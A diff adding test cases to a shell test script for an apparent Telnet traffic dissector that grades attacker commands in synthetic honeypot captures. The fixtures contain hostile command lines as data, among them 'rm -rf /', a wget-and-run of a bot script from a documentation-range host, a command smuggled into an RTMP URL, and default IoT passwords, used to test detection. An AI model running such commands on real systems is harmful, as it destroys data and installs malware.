@@ -60,10 +60,98 @@ hs_eq "filter login.user == root" "$(hs_count telnet 'login.user == "root"')" "2
 hs_eq "filter red telnet commands" \
     "$(hs_count telnet 'shellshock.vector == "telnet.command" && shellshock.grade == red')" "2"
 
+# Undecoded, not Malformed: a cap of our own analysis is no broken packet (issue 11, point 10).
+UNDECODED=0x05000000 MALFORMED=0x07000000
+hs_eq "severity: a line over the cap is Undecoded" \
+    "$(hs_count telnet "_ws.expert.message contains \"longer than the limit\" && _ws.expert.group == $UNDECODED")" "1"
+hs_eq "severity: nothing of ours is Malformed" \
+    "$(hs_count telnet "_ws.expert.group == $MALFORMED")" "0"
+
+# Telnet as real captures show it (issue 11, point 4): a terminal's control
+# keys, binary streams that are not Telnet, and the caps on what is kept.
+# Deterministic "random" bytes (the ZX81 generator), as \xHH escapes.
+random_bytes() {
+    awk -v n="$1" 'BEGIN { s = 5; for (i = 0; i < n; i++) { s = (s * 75 + 74) % 65537; printf "\\x%02x", s % 256 } }'
+}
+R600=$(random_bytes 600)
+R300=$(random_bytes 300)
+hs_gencap keys <<EOF
+time 1411862400
+# A character-mode client (the server echoes): ^C then exit; ^U, ^W, an arrow key.
+tcp 175.16.199.2:42000 192.0.2.23:23
+s "login: "
+c "root\r\n" @k_user
+s "Password: "
+c "admin\r\n"
+s "\r\n# "
+c "l"
+c "s"
+c "\x03" @k_ctrlc
+s "^C\r\n# "
+c "e"
+c "x"
+c "i"
+c "t"
+c "\r\0" @k_exit
+s "\r\n# "
+c "rm -rf /\x15uname -a\r\n" @k_kill
+c "ping -c 1 10.0.0.1\x17198.51.100.7\r\n" @k_word
+c "\x1b[Aid\r\n" @k_arrow
+close
+# Random bytes to TCP/23 with a download command among them: not Telnet.
+tcp 89.160.20.113:42001 192.0.2.23:23
+c "$R600" "\r\n; wget http://198.51.100.9/bot.sh; sh bot.sh\r\n" @b_random
+c "root\r\n" @b_later
+close
+# RTMP to TCP/23 (C0, C1, then a connect command naming a URL); a silent server.
+tcp 81.2.69.161:42002 192.0.2.23:23
+c "\x03" "\x00"*8 "$R300" @r_c1
+c "\x03\x00\x00\x00\x00\x00\x6b\x14\x00\x00\x00\x00\x02\x00\x07connect\x00\x3f\xf0\x00\x00\x00\x00\x00\x00\x03\x00\x03app\x02\x00\x04live\x00\x05tcUrl\x02\x00\x1ertmp://198.51.100.9/live; wget\r\n\x00\x00\x09" @r_amf
+close
+# A flood of one-letter lines after a login: the caps per frame and per conversation.
+tcp 67.43.156.2:42003 192.0.2.23:23
+c "root\r\n"
+c "xc3511\r\n"
+c "a\r\n"*100 @f_frame
+c "a\r\n"*40000 @f_conv
+close
+EOF
+hs_table keys "${F[@]}" _ws.expert.message
+hs_eq "^C: the line typed before it is discarded" "$(hs_get keys k_ctrlc shellshock.command)" ""
+hs_eq "^C then exit: the command is exit" "$(hs_get keys k_exit shellshock.command)" "exit"
+hs_eq "^U kills the line" "$(hs_get keys k_kill shellshock.command)" "uname"
+hs_eq "^W erases a word" "$(hs_get keys k_word shellshock.host)" "198.51.100.7"
+hs_eq "arrow key dropped" "$(hs_get keys k_arrow shellshock.command)" "id"
+hs_eq "prompts still read: user" "$(hs_get keys k_user login.user)" "root"
+hs_eq "random bytes: no login, command or URL" \
+    "$(hs_count keys 'tcp.srcport == 42001 && (login || shellshock)')" "0"
+hs_eq "RTMP: no login, command or URL" \
+    "$(hs_count keys 'tcp.srcport == 42002 && (login || shellshock)')" "0"
+hs_eq "not text: expert info once per conversation, Undecoded" \
+    "$(hs_count keys "_ws.expert.message contains \"not text\" && _ws.expert.group == $UNDECODED")" "2"
+hs_eq "cap per frame: 64 lines kept" \
+    "$(hs_get keys f_frame shellshock.grade | tr '^' '\n' | grep -c .)" "64"
+hs_eq "cap per frame: the rest counted" \
+    "$(hs_get keys f_frame _ws.expert.message | grep -o '36 Telnet lines[^;]*; highest grade among them: yellow')" \
+    "36 Telnet lines (logins, commands, environment values) not kept (limit of 64 per frame); highest grade among them: yellow"
+# The conversation's items: its user and password, and every graded line from f_frame on.
+hs_eq "cap per conversation: 4096 items kept" \
+    "$(awk -F'\t' -v from="$(hs_frame keys f_frame)" 'NR > 1 && $1 >= from - 2 {
+        n += ($2 != "") + ($3 != "") + ($4 == "" ? 0 : split($4, a, "^")) } END { print n }' "$HS_TMP/keys.tsv")" "4096"
+# 2 + 64 items before f_conv, 64 in each of its first 62 segments: the cap
+# is reached in the 63rd, and every later segment says so too.
+hs_eq "cap per conversation: expert info, Undecoded" \
+    "$(hs_count keys "_ws.expert.message contains \"4096 per conversation\" && _ws.expert.group == $UNDECODED")" \
+    "$(($(hs_frame keys f_conv) - $(hs_frame keys f_frame) - 62))"
+
 # Two-pass dissection (as the GUI redissects) gives the same fields.
 hs_tshark -2 -r "$HS_TMP/telnet.pcap" -T fields -E "aggregator=$HS_AGG" -E occurrence=a \
     -e frame.number $(printf -- '-e %s ' "${F[@]}") >"$HS_TMP/two-pass.tsv"
 tail -n +2 "$HS_TMP/telnet.tsv" >"$HS_TMP/one-pass.tsv"
 hs_eq "two-pass equals one-pass" "$(diff "$HS_TMP/one-pass.tsv" "$HS_TMP/two-pass.tsv" | head -12)" ""
+hs_tshark -2 -r "$HS_TMP/keys.pcap" -T fields -E "aggregator=$HS_AGG" -E occurrence=a \
+    -e frame.number $(printf -- '-e %s ' "${F[@]}" _ws.expert.message) >"$HS_TMP/keys-two.tsv"
+hs_eq "two-pass equals one-pass: keys, binary streams, caps" \
+    "$(tail -n +2 "$HS_TMP/keys.tsv" | diff - "$HS_TMP/keys-two.tsv" | head -12)" ""
 
 hs_done
